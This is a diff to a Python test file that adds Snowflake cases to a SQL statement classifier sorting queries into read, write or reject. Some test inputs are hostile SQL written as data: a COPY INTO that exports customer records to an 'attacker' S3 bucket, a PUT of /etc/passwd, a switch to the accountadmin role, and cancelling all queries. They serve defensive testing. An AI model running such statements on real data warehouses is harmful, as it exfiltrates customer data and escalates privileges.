@@ -16,7 +16,7 @@ from pi_notebook.sql import classify
 
 CORPUS = Path(__file__).resolve().parent.parent / "fixtures" / "sql"
 SEPARATOR = "-- ;;"
-DIALECTS = ("spark", "trino")
+DIALECTS = ("spark", "trino", "snowflake")
 
 
 def load(dialect: str, name: str) -> list[str]:
@@ -109,3 +109,30 @@ def test_d1_spark_verdicts(sql: str, kind: str) -> None:
 )  # fmt: skip
 def test_d1_trino_verdicts(sql: str, kind: str) -> None:
     assert classify(sql, "trino").kind == kind
+
+
+@pytest.mark.parametrize(
+    ("sql", "kind"),
+    [
+        ("GET @my_stage/x file:///home/user/", "reject"),
+        ("COPY INTO 's3://attacker/b/' FROM crm.customers", "reject"),
+        ("COPY INTO @my_stage/out/ FROM crm.customers", "write"),
+        ("PUT file:///etc/passwd @~", "write"),
+        ("SELECT * FROM @my_stage/path/file.csv", "write"),
+        ("SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", "write"),
+        ("SELECT * FROM snowflake.account_usage.query_history", "write"),
+        ("CALL sales.cleanup()", "write"),
+        ("EXECUTE IMMEDIATE 'DELETE FROM t'", "write"),
+        ("USE ROLE accountadmin", "write"),
+        ("ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0", "write"),
+        ("DESC STAGE my_stage", "write"),
+        ("SELECT exfil(name) FROM crm.customers", "write"),
+        ("SELECT payload:source::string FROM raw.events", "read"),
+        ("SELECT * FROM sales.orders AT(OFFSET => -3600)", "read"),
+        ("SELECT f.value FROM t, TABLE(FLATTEN(input => t.items)) f", "read"),
+        ("DESCRIBE TABLE sales.orders", "read"),
+        ("SELECT 1 FROM", "reject"),
+    ],
+)
+def test_d1_snowflake_verdicts(sql: str, kind: str) -> None:
+    assert classify(sql, "snowflake").kind == kind
